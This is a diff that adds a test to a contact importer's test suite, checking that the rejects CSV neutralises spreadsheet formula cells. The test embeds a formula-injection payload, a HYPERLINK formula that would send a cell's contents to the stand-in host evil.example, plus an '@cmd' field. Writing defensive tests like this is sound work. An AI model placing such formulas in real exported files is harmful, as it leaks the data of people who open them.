@@ -4,6 +4,7 @@ run exactly, the report and the rejects file, and the store's bulk fast path aga
 from __future__ import annotations
 
 import csv
+import json
 from collections.abc import Iterator
 from pathlib import Path
 
@@ -268,3 +269,20 @@ def test_all_new_fast_insert_falls_back_when_some_addresses_exist(store: SqliteC
     assert (stats.total, stats.unsubscribed) == (20, 10)
     third = write(tmp_path, "emailAddress\n" + "".join(f"c{i}@x.com\n" for i in range(5)), name="third.csv")
     assert imp(store, third).counts["created"] == 5 and store.list_stats(LIST).total == 25
+
+
+def test_rejects_file_neutralises_cells_a_spreadsheet_would_run(store: SqliteContactStore, tmp_path: Path) -> None:
+    """A rejected line's address or field name is whatever the file held: ``=HYPERLINK(...)`` must reach a
+    spreadsheet as text (a leading '), and reading the rejects back gives the original values."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    path = write(
+        tmp_path, f'[{{"emailAddress": {json.dumps(formula)}}}, {{"emailAddress": "a@x.com", "@cmd": 1}}]', "in.json"
+    )
+    out = tmp_path / "rejects.csv"
+    report = imp(store, path, rejects_path=out)
+    assert report.counts["rejected"] == 2
+    with open(out, newline="") as f:
+        rows = list(csv.reader(f))
+    assert rows[1][:3] == ["1", "'" + formula, "emailAddress"]
+    assert rows[2][:3] == ["2", "a@x.com", "'@cmd"]
+    assert [(r.email, r.column) for r in iter_rejects(out)] == [(formula, "emailAddress"), ("a@x.com", "@cmd")]
